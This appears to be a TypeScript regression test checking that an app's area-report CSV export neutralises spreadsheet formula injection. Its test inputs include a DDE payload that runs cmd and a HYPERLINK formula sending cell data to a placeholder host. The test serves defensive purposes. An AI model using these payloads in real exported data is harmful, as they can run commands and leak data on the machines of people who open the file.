import { randomBytes } from 'node:crypto';
import { expect } from 'chai';
import supertest from 'supertest';
import { parse } from 'csv-parse/sync';
import { SYSTEM_ACTOR } from '../../server/audit/service.js';
import { createUser } from '../../server/users/service.js';
import { testApp, privateBox, type TestApp } from '../support/app.js';

/**
 * CSV formula injection in the area report: a premises imported as
 * `-1+1+cmd|' /C calc'!A0` and a display name starting with `=` used to come out raw
 * (the old rule let anything starting with "-" and a digit through). Every cell a
 * spreadsheet would run as a formula now starts with an apostrophe.
 */

const EVIL_PREMISES = "-1+1+cmd|' /C calc'!A0";
const EVIL_NAME = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")';

describe('CSV formula injection (area report)', function () {
  this.timeout(120_000);
  let t: TestApp;

  before(async () => {
    t = await testApp();
  });

  it('when an analyst named "=…" downloads the area report CSV of premises named "-1+1+cmd…", then both come out neutralised', async () => {
    const username = `t-csv-${randomBytes(4).toString('hex')}`;
    const password = `pw-${randomBytes(12).toString('hex')}`;
    await createUser(t.db, SYSTEM_ACTOR, { username, displayName: EVIL_NAME, role: 'analyst', password });
    const agent = supertest.agent(t.app);
    const login = await agent.post('/api/auth/login').send({ username, password }).expect(200);
    const csrf = login.body.csrfToken as string;
    await agent.put('/api/auth/purpose').set('X-CSRF-Token', csrf).send({ purpose: 'Automated test of CSV output' }).expect(200);

    const box = privateBox();
    const d = 0.003;
    const ring = [[box.lon - d, box.lat - d], [box.lon + d, box.lat - d], [box.lon + d, box.lat + d], [box.lon - d, box.lat + d], [box.lon - d, box.lat - d]];
    const area = await agent.post('/api/areas').set('X-CSRF-Token', csrf).send({ name: 'CSV injection square (synthetic)', kind: 'custom', geometry: { type: 'Polygon', coordinates: [ring] } });
    expect(area.status, area.text).to.equal(201);
    const premises = await agent.post('/api/premises').set('X-CSRF-Token', csrf).send({ name: EVIL_PREMISES, category: 'takeaway', ...box.at() });
    expect(premises.status, premises.text).to.equal(201);
    for (let i = 0; i < 3; i++) {
      const s = await agent.post('/api/sightings').set('X-CSRF-Token', csrf).send({
        observedAt: `2026-02-0${i + 1}T21:00:00Z`, ...box.at(0.0001 * i), category: 'adult_loitering', sourceAgency: 'police', sourceEval: 2, intelAssessment: 'B', handlingCode: 'P', premisesId: premises.body.id,
      });
      expect(s.status, s.text).to.equal(201);
    }

    const r = await agent.get(`/api/reports/areas/${area.body.id}?from=2026-01-01&to=2026-03-31&format=csv`).expect(200);
    expect(r.headers['content-type']).to.match(/^text\/csv/);
    const rows = parse(r.text) as string[][];
    const cells = rows.flat();
    // Nothing a spreadsheet would evaluate, anywhere in the file (numbers are digits only).
    for (const c of cells) expect(/^[=+\-@\t\r]/.test(c), `cell ${JSON.stringify(c)}`).to.equal(false);
    const place = rows.find((row) => row[0] === 'repeat places');
    expect(place, 'a repeat-places row').to.not.equal(undefined);
    expect(place![1]).to.equal(`'${EVIL_PREMISES}`);
    const by = rows.find((row) => row[0] === 'report' && row[1] === 'generated' && row[2] === 'by');
    expect(by![3]).to.equal(`'${EVIL_NAME} (analyst)`);
  });
});
